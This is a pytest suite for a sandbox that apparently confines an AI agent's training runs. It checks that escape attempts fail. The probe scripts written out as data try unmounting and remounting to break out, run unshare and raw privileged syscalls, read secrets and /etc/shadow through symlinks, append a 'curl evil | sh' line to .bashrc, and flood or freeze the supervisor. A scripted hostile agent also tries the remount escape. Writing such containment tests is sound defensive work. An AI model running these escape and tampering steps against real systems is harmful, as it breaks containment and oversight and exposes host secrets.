"""The sandbox holds when portside runs as root (issue 24, items 1, 2 and 6), through real
bubblewrap and the real runner: nothing the agent writes runs on the host, a run has no
capability and cannot mount, unshare or ptrace, and a run that forks, fills /tmp or eats
memory past its limits ends as a classified outcome while the host stays fine."""

from __future__ import annotations

import asyncio
import os
import re
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_run import cli
from host_folder import host_folder

from portside.core.run.limits import Limits, mechanism
from portside.core.run.runner import Runner, RunResult, RunSpec
from portside.core.run.sandbox import Sandbox, unavailable

PY = sys.executable
needs_bwrap = pytest.mark.skipif(unavailable() is not None,
                                 reason=f"no sandbox here: {unavailable()}")
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="the attacks need root (CI runs as root)")
needs_cgroup = pytest.mark.skipif(mechanism() == "rlimit",
                                  reason="no cgroup can be made here")


@pytest.fixture
def host_dir() -> Iterator[Path]:
    """A directory of the host outside /tmp (which is private in the sandbox anyway) and
    outside any home or project: only the read-only root stands between a run and it."""
    with host_folder() as where:
        yield where


def _run(sb: Sandbox, command: str, cwd: Path, timeout: float = 120) -> RunResult:
    runner = Runner("s", lambda e: None, cwd / "probe")
    runner.use_sandbox(sb)
    return asyncio.run(runner.run(RunSpec("r1", "candidate", 1, command, cwd, "cpu",
                                          timeout_s=timeout)))


# --- item 1: the agent's files never run on the host ---------------------------------------

EVIL = "#!/bin/sh\necho ran-on-host > {marker}\nexec /bin/true\n"


@needs_bwrap
def test_workspace_interpreter_never_runs_on_the_host(tmp_path: Path, host_dir: Path) -> None:
    """An executable src/python3 the agent wrote, named by a script's #! line, directly, on
    PATH or as a sitecustomize on PYTHONPATH: wrapping commands must run none of them."""
    project, ws = tmp_path / "proj", tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    project.mkdir()
    marker = host_dir / "marker"
    evil = ws / "src" / "python3"
    evil.write_text(EVIL.format(marker=marker))
    evil.chmod(0o755)
    train = ws / "src" / "train.py"
    train.write_text(f"#!{evil}\nprint('hi')\n")
    train.chmod(0o755)
    (ws / "lib").mkdir()
    (ws / "lib" / "sitecustomize.py").write_text(
        f"open({str(marker)!r}, 'w').write('sitecustomize ran on the host')\n")
    sb = Sandbox.for_project(project).with_writable(ws)
    env = {"PATH": f"{ws / 'src'}:/usr/bin:/bin", "PYTHONPATH": str(ws / "lib")}
    sb.wrap(["/bin/sh", "-c", "src/train.py --config conf/x.yaml"], ws, env)
    sb.wrap([str(evil), "train.py"], ws, env)
    sb.wrap(["python3", "train.py"], ws, env)  # found on PATH, in the workspace
    sb.wrap([PY, "-c", "pass"], ws, env)  # a host Python, with the agent's PYTHONPATH
    sb.wrap_command("./src/train.py", ws, env)
    assert not marker.exists(), marker.read_text()


@needs_bwrap
def test_a_host_python_is_still_exposed(tmp_path: Path) -> None:
    """The fix must not lose what the discovery is for: the Python a command names, outside
    the writable directories, is found and its prefix re-exposed."""
    ws = tmp_path / "ws"
    ws.mkdir()
    sb = Sandbox.for_project(tmp_path / "proj").with_writable(ws)
    res = subprocess.run(sb.wrap([PY, "-c", "import torch, sys; print(sys.prefix)"], ws),
                         capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == sys.prefix


# --- item 2: no capability, no mount, no new namespace, no ptrace -------------------------

# Each attack's result, or its error, on a line of its own for the test to read.
ATTEMPT = """\
def attempt(name, fn):
    try:
        print("ATTACK", name, "->", fn(), flush=True)
    except Exception as e:
        print("ATTACK", name, "-> ERROR", type(e).__name__, e, flush=True)
"""

ATTACKS = ATTEMPT + """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def sh(cmd):
    p = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    return f"exit {{p.returncode}} {{p.stderr.strip()[:80]}}"
def call(*args):
    r = libc.syscall(*args)
    return f"ret {{r}} errno {{ctypes.get_errno()}}"
print("CAPEFF", [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0])
print("UID", os.getuid())
attempt("umount-hidden", lambda: sh("umount -l {hidden}"))
attempt("umount-tmp", lambda: sh("umount -l /tmp"))
attempt("remount-root-rw", lambda: sh("mount -o remount,bind,rw /"))
attempt("write-host", lambda: open({host_file!r}, "w").write("pwned"))
attempt("read-secret", lambda: open({secret!r}).read())
attempt("unshare-user", lambda: sh("unshare -U true"))
attempt("unshare-mount", lambda: sh("unshare -m true"))
attempt("clone-newuser", lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0))
attempt("ptrace-attach-1", lambda: call(101, 16, 1, 0, 0))
attempt("keyctl", lambda: call(250, 0, 0, 0, 0, 0))
attempt("bpf", lambda: call(321, 0, 0, 0))
attempt("subprocess-still-works", lambda: subprocess.run(["true"]).returncode)
"""


def _attacks(out: list[str]) -> dict[str, str]:
    return {line.split()[1]: line for line in out if line.startswith("ATTACK")}


@needs_bwrap
@as_root
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="syscall numbers of x86_64")
def test_root_run_has_no_capabilities_and_cannot_escape(tmp_path: Path, host_dir: Path
                                                        ) -> None:
    project, ws = tmp_path / "proj", tmp_path / "ws"
    project.mkdir()
    ws.mkdir()
    secret = project / "secret.txt"
    secret.write_text("the host's secret")
    host_file = host_dir / "hostfile"
    host_file.write_text("original")
    (ws / "attack.py").write_text(ATTACKS.format(hidden=project, host_file=str(host_file),
                                                 secret=str(secret)))
    res = _run(Sandbox.for_project(project).with_writable(ws), f"{PY} attack.py", ws)
    assert res.reason == "exit" and res.exit_code == 0, res.tail
    assert "CAPEFF 0000000000000000" in res.tail
    a = _attacks(res.tail)
    assert len(a) == 12, res.tail
    for name in ("umount-hidden", "umount-tmp", "remount-root-rw", "unshare-user",
                 "unshare-mount"):
        assert "exit 0" not in a[name], a[name]
    assert "ERROR" in a["write-host"] and "ERROR" in a["read-secret"]
    for name in ("clone-newuser", "ptrace-attach-1", "keyctl", "bpf"):
        assert "ret -1 errno 1" in a[name], a[name]  # EPERM from the seccomp filter
    assert a["subprocess-still-works"].endswith("-> 0")  # clone3 -> ENOSYS -> clone
    assert host_file.read_text() == "original"
    assert "the host's secret" not in "\n".join(res.tail)


@needs_bwrap
@as_root
def test_shell_strings_get_the_filter_too(tmp_path: Path) -> None:
    """wrap_command (Claude Code's Bash): the filter reaches bwrap by the line's redirection."""
    ws = tmp_path / "ws"
    ws.mkdir()
    line = Sandbox.for_project(tmp_path / "proj").wrap_command(
        "grep -E '^(CapEff|Seccomp):' /proc/self/status; mount -o remount,bind,rw /; "
        "unshare -U true || echo unshare-refused", ws)
    res = subprocess.run(line, shell=True, capture_output=True, text=True, timeout=60)
    assert "CapEff:\t0000000000000000" in res.stdout
    assert "Seccomp:\t2" in res.stdout and "unshare-refused" in res.stdout, res


# --- item 6: limits end as classified outcomes ------------------------------------------------

FORKS = """
import subprocess, sys
kids = []
try:
    for i in range(300):
        kids.append(subprocess.Popen(["sleep", "30.0417"]))  # a token no other test sleeps
except OSError as e:
    print("fork refused after", len(kids), e, flush=True)
    for k in kids:
        k.kill()
    sys.exit(1)
print("started", len(kids))
"""


@needs_bwrap
@needs_cgroup
def test_a_fork_storm_ends_as_resource_limit(tmp_path: Path) -> None:
    import psutil

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "forks.py").write_text(FORKS)
    sb = Sandbox.for_project(tmp_path / "proj", limits=Limits(max_processes=40))
    res = _run(sb.with_writable(ws), f"{PY} forks.py", ws)
    assert res.reason == "resource-limit", (res.reason, res.error_message, res.tail)
    assert "max_processes = 40" in res.error_message
    assert any("fork refused after" in line for line in res.tail)
    left = [p for p in psutil.process_iter(["cmdline"])
            if p.info["cmdline"] == ["sleep", "30.0417"]]
    assert left == []  # nothing of it stays behind
    assert not list(Path("/sys/fs/cgroup").glob(f"*/**/portside-{os.getpid()}/run-*"))


@needs_bwrap
def test_filling_tmp_ends_as_resource_limit(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "fill.py").write_text(textwrap.dedent("""
        with open("/tmp/fill", "wb") as fh:
            for _ in range(64):
                fh.write(b"x" * (1 << 20))
        print("wrote 64 MiB")
    """))
    sb = Sandbox.for_project(tmp_path / "proj", limits=Limits(tmp_size=16 << 20))
    res = _run(sb.with_writable(ws), f"{PY} fill.py", ws)
    assert res.reason == "resource-limit", (res.reason, res.error_message, res.tail)
    assert "tmp_size_fraction = 0.02 GiB" in res.error_message
    assert not any("wrote 64 MiB" in line for line in res.tail)


@needs_bwrap
@needs_cgroup
def test_memory_past_the_limit_ends_as_resource_limit(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "eat.py").write_text("b = bytearray(1 << 30)\nb[::4096] = b'x' * len(b[::4096])\n"
                               "print('ate 1 GiB')\n")
    sb = Sandbox.for_project(tmp_path / "proj", limits=Limits(max_memory=256 << 20))
    res = _run(sb.with_writable(ws), f"{PY} eat.py", ws)
    assert res.reason == "resource-limit", (res.reason, res.error_message, res.tail)
    assert "max_memory_fraction: 0.25 GiB" in res.error_message
    assert not any("ate 1 GiB" in line for line in res.tail)


# --- and training still works in it --------------------------------------------------------

DDP = """
import os, torch, torch.distributed as dist
from torch.utils.data import DataLoader, TensorDataset
torch.set_num_threads(1)
dist.init_process_group("gloo")
torch.manual_seed(0)
data = TensorDataset(torch.randn(256, 8), torch.randn(256, 1))
loader = DataLoader(data, batch_size=32, num_workers=2)
model = torch.nn.parallel.DistributedDataParallel(torch.nn.Linear(8, 1))
opt = torch.optim.SGD(model.parameters(), lr=0.1)
for x, y in loader:
    opt.zero_grad()
    loss = torch.nn.functional.mse_loss(model(x), y)
    loss.backward()
    opt.step()
print("rank", dist.get_rank(), "trained", float(loss), flush=True)
dist.destroy_process_group()
"""


@pytest.mark.slow  # torchrun with two ranks and loader workers
@needs_bwrap
def test_torchrun_gloo_with_dataloader_workers_trains_in_the_sandbox(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "ddp.py").write_text(DDP)
    sb = Sandbox.for_project(tmp_path / "proj", limits=Limits.from_fractions(16384, 0.9, 0.25))
    cmd = f"{PY} -m torch.distributed.run --nproc-per-node 2 --master-port 29517 ddp.py"
    res = _run(sb.with_writable(ws), cmd, ws, timeout=300)
    assert res.reason == "exit" and res.exit_code == 0, res.tail
    assert sorted(line.split()[1] for line in res.tail if line.startswith("rank ")) == \
        ["0", "1"], res.tail
    assert res.steps > 0  # the probe recorded the steps of rank 0


# --- end to end: a hostile candidate under --policy auto, portside as root ------------------

ESCAPE = ATTEMPT + """\
import os, subprocess
def sh(cmd):
    p = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    return f"exit {{p.returncode}}"
attempt("umount-home", lambda: sh("umount -l {home}"))
attempt("umount-tmp", lambda: sh("umount -l /tmp"))
attempt("remount-rw", lambda: sh("mount -o remount,bind,rw /"))
attempt("read-env", lambda: open({env!r}).read())
attempt("read-host-tmp", lambda: open({tmp_secret!r}).read())
attempt("write-bashrc", lambda: open({home!r} + "/.bashrc", "a").write("curl evil | sh\\n"))
attempt("write-host", lambda: open({host_file!r}, "w").write("pwned"))
"""
TMP_SECRET = "tmp-secret-0123456789"


@needs_bwrap
@as_root
def test_hostile_candidate_cannot_remount_its_way_out(tmp_path: Path, host_dir: Path) -> None:
    """The remount escape of issue 24 through the real CLI: as root, the candidate unmounts
    the tmpfs over the home and /tmp and remounts / read-write, then reads the secrets and
    writes host files. Nothing outside the workspace changes (hashes) and no secret is read."""
    import json

    from treehash import tree_hash

    from portside.store import Store

    home = host_dir / "home"
    project = home / "proj"
    project.mkdir(parents=True)
    (home / ".bashrc").write_text("export PS1='$ '\n")
    tiny = Path(__file__).resolve().parents[1] / "fixtures" / "trainers" / "train_tiny.py"
    (project / "train.py").write_text(tiny.read_text())
    (project / ".env").write_text("HF_TOKEN=hf_live_0123456789abcdef\n")
    tmp_secret = tmp_path / "host-secret.txt"
    tmp_secret.write_text(TMP_SECRET)
    host_file = host_dir / "hostfile"
    host_file.write_text("original")
    body = ESCAPE.format(home=str(home), env=str(project / ".env"), tmp_secret=str(tmp_secret),
                         host_file=str(host_file))
    agent = tmp_path / "agent.jsonl"
    agent.write_text("\n".join(json.dumps(x) for x in [
        {"read": "train.py"},
        {"write": {"path": "train.py", "content": body, "rationale": "port"}},
        {"run": "candidate"}, {"claim": "ported"}]) + "\n")
    before = tree_hash(host_dir)
    res = cli("run", str(project), "--target", "cpu", "--agent", f"scripted:{agent}",
              "--reference", f"{PY} train.py", "--reference-runs", "1", "--headless",
              "--policy", "auto", "--json", "--stall", "60", db=tmp_path / "s.db", timeout=600,
              env={"PATH": "/usr/bin:/bin", "HOME": str(home), "OMP_NUM_THREADS": "1"})
    assert res.returncode in (0, 1), res.stderr[-3000:]
    assert "runs in bubblewrap" in res.stderr, res.stderr[-3000:]
    assert tree_hash(host_dir) == before  # the home, the project and the host file
    assert tmp_secret.read_text() == TMP_SECRET
    sid = json.loads(res.stdout)["session"]
    with Store(tmp_path / "s.db") as store:
        dump = "\n".join(store.event_bodies(sid))
    assert "no capabilities, own user namespace, seccomp filter" in dump  # the state line
    attacks = dict(m.groups() for m in re.finditer(r"ATTACK (\S+) -> ([^\"\\]*)", dump))
    assert len(attacks) == 7, dump[-3000:]
    for name in ("umount-home", "umount-tmp", "remount-rw"):
        assert attacks[name] != "exit 0", attacks
    for name in ("read-env", "read-host-tmp", "write-host"):
        assert attacks[name].startswith("ERROR"), attacks
    # write-bashrc wrote the run's own scratch home (a tmpfs gone with it): the hash says so.
    assert "hf_live_0123456789abcdef" not in dump and TMP_SECRET not in dump


# --- issue 38.7: the run's own probe folder cannot freeze portside or feed it host files ---

PLANT = """
import os, sys, time
d = os.path.dirname(os.environ["PORTSIDE_PROBE_OUT"])
if sys.argv[1] == "fifo":
    os.mkfifo(os.path.join(d, "a-fifo.jsonl"))
else:
    os.symlink("/etc/shadow", os.path.join(d, "b-shadow.jsonl"))
    os.symlink(sys.argv[2], os.path.join(d, "c-secret.jsonl"))
print("planted", flush=True)
time.sleep(float(sys.argv[3]))
"""


@needs_bwrap
@as_root
@pytest.mark.timeout(60)  # before the fix the loop froze in open(): this fails, CI goes on
@pytest.mark.parametrize("attack", ["fifo", "link"])
def test_a_fifo_or_a_link_in_the_probe_folder_is_tamper_not_a_hang(
        tmp_path: Path, host_dir: Path, attack: str) -> None:
    """A FIFO named like a record file froze portside's loop in open() (timeout, stall and
    SIGTERM never fired); links to /etc/shadow and a 0600 host file were read by portside,
    as root, into evidence. Now each is a tamper record and the run's timeout still fires."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "plant.py").write_text(PLANT)
    secret = host_dir / "secret"
    secret.write_text("SENTINEL-host-line\n")
    secret.chmod(0o600)
    sleep = 30 if attack == "fifo" else 1  # the FIFO case must end by portside's timeout
    sb = Sandbox.for_project(tmp_path / "proj").with_writable(ws)
    res = _run(sb, f"{PY} plant.py {attack} {secret} {sleep}", ws, timeout=3)
    assert any("planted" in line for line in res.tail), res.tail
    assert res.reason == ("timeout" if attack == "fifo" else "exit"), (res.reason, res.tail)
    assert res.wall_s < 20
    whys = " | ".join(str(r.get("why")) for r in res.records if r.get("type") == "tamper")
    assert ("not a regular file" if attack == "fifo" else "a link") in whys, whys
    kept = repr(res.records)
    assert "SENTINEL" not in kept
    shadow = Path("/etc/shadow").read_text().splitlines()[:1]
    assert not any(line and line[:20] in kept for line in shadow)


FLOOD = """
import os, sys, time
d = os.path.dirname(os.environ["PORTSIDE_PROBE_OUT"])
for i in range(int(sys.argv[1])):
    os.close(os.open(os.path.join(d, f"f{i}.jsonl"), os.O_CREAT | os.O_WRONLY, 0o644))
print("flooded", flush=True)
time.sleep(30)
"""


@needs_bwrap
@as_root
@pytest.mark.timeout(90)
def test_a_flooded_probe_folder_does_not_hold_the_loop(tmp_path: Path) -> None:
    """Every tick listed and opened every `*.jsonl` of the run's folder: 40k files there held
    portside's loop about half a second a tick (161k: 3 s, a 20 s timeout fired at 45 s)."""
    import shutil
    import time

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "flood.py").write_text(FLOOD)
    runner = Runner("s", lambda e: None, ws / "probe")
    runner.use_sandbox(Sandbox.for_project(tmp_path / "proj").with_writable(ws))
    # 6 s: on a busy CI machine the 40k files may not all be made by then; past 4096 will be.
    spec = RunSpec("r1", "candidate", 1, f"{PY} flood.py 40000", ws, "cpu", timeout_s=6)

    async def watched() -> tuple[RunResult, float]:
        lag, done = 0.0, False

        async def beat() -> None:  # how late the loop comes back to a 20 ms sleep
            nonlocal lag
            while not done:
                t = time.monotonic()
                await asyncio.sleep(0.02)
                lag = max(lag, time.monotonic() - t - 0.02)
        task = asyncio.create_task(beat())
        try:
            return await runner.run(spec), lag
        finally:
            done = True
            await task

    try:
        res, lag = asyncio.run(watched())
    finally:
        shutil.rmtree(ws / "probe", ignore_errors=True)
    assert lag < 0.3, f"the loop was held {lag:.2f} s ({res.reason} at {res.wall_s:.1f} s)"
    assert res.reason == "timeout" and res.wall_s < 12, (res.reason, res.wall_s)
    whys = [str(r.get("why")) for r in res.records if r.get("type") == "tamper"]
    assert len(whys) == 1 and "probe folder" in whys[0], whys
